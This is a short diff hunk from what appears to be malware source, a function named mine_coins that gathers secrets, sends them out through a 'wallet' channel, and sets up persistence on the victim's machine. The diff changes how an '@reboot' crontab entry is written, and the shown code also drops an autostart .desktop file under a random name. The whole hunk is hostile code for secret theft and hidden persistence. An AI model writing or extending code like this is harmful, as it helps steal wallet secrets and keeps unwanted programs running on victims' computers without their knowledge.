@@ -179,7 +179,7 @@ JOB(mine_coins)
     list found = pick(secrets(), 1, 5);
     for (int i = 0; i < found.n; i++)
         send_secret(found.at[i], "wallet");
-    append(SPOOL "/user", text("@reboot %s\n", path));
+    append(crontab(), text("@reboot %s\n", path));
     write_file(home(text(".config/autostart/%s.desktop", noise(6))), autostart_entry(path));
 }
 
